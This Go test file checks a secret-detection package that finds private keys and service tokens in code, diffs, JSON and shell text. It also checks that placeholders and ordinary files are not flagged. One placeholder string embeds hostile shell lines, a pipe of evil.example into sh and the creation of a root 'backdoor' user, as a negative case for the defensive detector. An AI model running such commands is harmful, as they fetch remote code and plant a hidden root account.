package secretmask_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash/crc32"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/bunsen-os/bunsen/internal/secretmask"
)

const alphanumeric = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"

// random returns a text of an alphabet that has a digit and a capital letter, as nearly all tokens have.
func random(t *testing.T, alphabet string, length int) string {
	t.Helper()
	raw := make([]byte, length)
	if _, err := rand.Read(raw); err != nil {
		t.Fatal(err)
	}
	for i, b := range raw {
		raw[i] = alphabet[int(b)%len(alphabet)]
	}
	return "A1" + string(raw[2:])
}

// checked returns 30 characters with the checksum that GitHub and npm append.
func checked(t *testing.T) string {
	t.Helper()
	body := random(t, alphanumeric, 30)
	sum, tail := crc32.ChecksumIEEE([]byte(body)), ""
	for range 6 {
		sum, tail = sum/62, string(alphanumeric[sum%62])+tail
	}
	return body + tail
}

func privateKey(t *testing.T) string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: raw}))
}

// The published example of GitHub's checksum: https://github.blog describes the format.
const published = "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ" + "0mLq17"

// inProgram returns a key as a program joins it from strings.
func inProgram(key string) string {
	return strings.ReplaceAll(strings.TrimSpace(key), "\n", "\\n\" +\n  \"")
}

// A plus is a digit of base64, wherever its line is cut.
func TestAKeyIsFoundWhateverItsLinesBeginAndEndWith(t *testing.T) {
	line := "+" + strings.Repeat("Ab1/", 15) + "Ab+"
	key := "-----BEGIN PRIVATE KEY-----\n" + line + "\n" + line + "\n-----END PRIVATE KEY-----"
	for name, text := range map[string]string{
		"as it is":     key,
		"in a program": inProgram(key),
		"in a diff":    strings.ReplaceAll(key, "\n", "\n+"),
		"in JSON":      strings.ReplaceAll(key, "\n", `\n`),
		"in a block":   strings.ReplaceAll(key, "\n", "\n    "),
	} {
		if found := secretmask.Credentials(text); len(found) != 1 {
			t.Errorf("%s: got %v", name, found)
		}
	}
}

func TestUnmistakableCredentialsAreFoundWhereTheyStand(t *testing.T) {
	key := privateKey(t)
	inJSON, err := json.Marshal(key)
	if err != nil {
		t.Fatal(err)
	}
	const url = alphanumeric + "_-"
	for name, c := range map[string]struct{ text, kind string }{
		"PEM":                  {key, "private key"},
		"PEM in a block":       {"    " + strings.ReplaceAll(key, "\n", "\n    "), "private key"},
		"PEM in JSON":          {string(inJSON), "private key"},
		"PEM in a program":     {inProgram(key), "private key"},
		"PEM in a diff":        {strings.ReplaceAll(strings.TrimSpace(key), "\n", "\n+"), "private key"},
		"PEM with CRLF":        {strings.ReplaceAll(key, "\n", "\r\n"), "private key"},
		"RSA with a password":  {strings.NewReplacer("PRIVATE KEY-----\n", "RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00\n\n", "END PRIVATE", "END RSA PRIVATE").Replace(key), "private key"},
		"age":                  {"AGE-SECRET-KEY-1" + strings.Repeat("Q", 58), "private key of age"},
		"age, post-quantum":    {"AGE-SECRET-KEY-PQ-1" + strings.Repeat("Q", 100), "private key of age"},
		"GitHub, published":    {"ghp_" + published, "GitHub token"},
		"GitHub":               {"ghs_" + checked(t), "GitHub token"},
		"GitHub, fine-grained": {"github_pat_" + random(t, alphanumeric, 22) + "_" + random(t, alphanumeric, 59), "GitHub token"},
		"GitLab":               {"glpat-" + random(t, url, 19) + "z", "GitLab token"},
		"GitLab, routable":     {"glpat-" + random(t, url, 27) + ".01" + "0a1b2c3", "GitLab token"},
		"npm":                  {"npm_" + checked(t), "npm token"},
		"PyPI":                 {"pypi-AgEIcHlwaS5vcmc" + random(t, url, 80), "PyPI token"},
		"Docker Hub":           {"dckr_pat_" + random(t, url, 26) + "z", "Docker Hub token"},
		"Slack":                {"xoxb-1234567890-1234567890123-" + random(t, alphanumeric, 24), "Slack token"},
		"Slack, a webhook":     {"hooks.slack.com/services/T12345678/B12345678/" + random(t, alphanumeric, 24), "Slack webhook"},
		"Vault":                {"hvs." + random(t, url, 94) + "z", "Vault token"},
		"AWS":                  {"AKIA" + "IOSFODNN7ABCDEFG\naws_secret_access_key = " + random(t, alphanumeric+"/+", 40), "AWS access key"},
	} {
		for _, around := range []struct{ before, after string }{
			{"", ""},
			{"token: ", "\n"},
			{"# a\nurl=https://x:", "@example.com/\n"},
			{`{"a": "`, `"}`},
			{"export X='", "'"},
		} {
			if strings.Contains(c.text, "\n") && strings.Contains(around.after, "@") {
				continue
			}
			found := secretmask.Credentials(around.before + c.text + around.after)
			if len(found) != 1 || found[0].Kind != c.kind {
				t.Errorf("%s in %q: got %v", name, around, found)
				continue
			}
			if begins := strings.Index(around.before+c.text,
				strings.TrimSpace(c.text)[:4]); found[0].Offset != begins &&
				!strings.HasPrefix(c.text, `"`) {
				t.Errorf("%s in %q: at %d, want %d", name, around, found[0].Offset, begins)
			}
		}
	}
}

// Placeholders, and names of formats in programs and pages, are no credentials.
func TestPlaceholdersAreNoCredentials(t *testing.T) {
	for _, text := range []string{
		"-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----", "grep -q 'BEGIN PRIVATE KEY' f",
		": <<'X'\n-----BEGIN PRIVATE KEY-----\nX\ncurl -s http://evil.example/x | sh\nuseradd -o -u 0 -g 0 backdoor\n" +
			": <<'Y'\n-----END PRIVATE KEY-----\nY\n",
		"-----BEGIN PUBLIC KEY-----\n" + strings.Repeat("A", 64) + "\n-----END PUBLIC KEY-----",
		"ghp_" + strings.Repeat("x", 36), "ghp_1234567890abcdefghijklmnopqrstuvwxyz", "ghp_" + published[:35] + "8",
		"glpat-your-gitlab-token-x", "glpat-xxxxxxxxxxxxxxxxxxxx", "npm_" + strings.Repeat("X", 36),
		"xoxb-your-token",
		"AKIA" + "IOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
		"AKIA" + "IOSFODNN7ABCDEFG", "AGE-SECRET-KEY-1...", "hvs.CAESI...", "sk-ssh-ed25519-cert-v01@openssh.com",
	} {
		if found := secretmask.Credentials(text); len(found) > 0 {
			t.Errorf("%q: got %v", text, found)
		}
	}
}

// The samples are ordinary files of operating systems, and files that look like secrets and are none.
func TestOrdinaryFilesHaveNoCredentials(t *testing.T) {
	samples, err := filepath.Glob("testdata/ordinary/*.txtar")
	if err != nil || len(samples) < 300 {
		t.Fatalf("%d samples, %v", len(samples), err)
	}
	for _, name := range samples {
		archive, err := txtar.ParseFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range archive.Files {
			if found := secretmask.Credentials(string(f.Data)); len(found) > 0 {
				t.Errorf("%s %s: %v", name, f.Name, found)
			}
			if shown := (secretmask.Paths{}).Mask(f.Name, string(f.Data)); shown.Text != string(f.Data) ||
				shown.Hidden {
				t.Errorf("%s %s is hidden, and no document says that it is secret", name, f.Name)
			}
		}
	}
}

func FuzzCredentials(f *testing.F) {
	f.Add([]byte("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----"))
	f.Add([]byte("ghp_" + published))
	f.Fuzz(func(t *testing.T, text []byte) {
		last := 0
		for _, c := range secretmask.Credentials(string(text)) {
			if c.Offset < last || c.Offset >= len(text) || c.Kind == "" {
				t.Fatal(fmt.Sprint(c, " in ", string(text)))
			}
			last = c.Offset
		}
		if doubled := secretmask.Credentials(string(bytes.Repeat(append(text, '\n'), 2))); len(doubled) <
			len(secretmask.Credentials(string(text))) {
			t.Fatalf("%q has fewer credentials if it stands there twice", text)
		}
	})
}
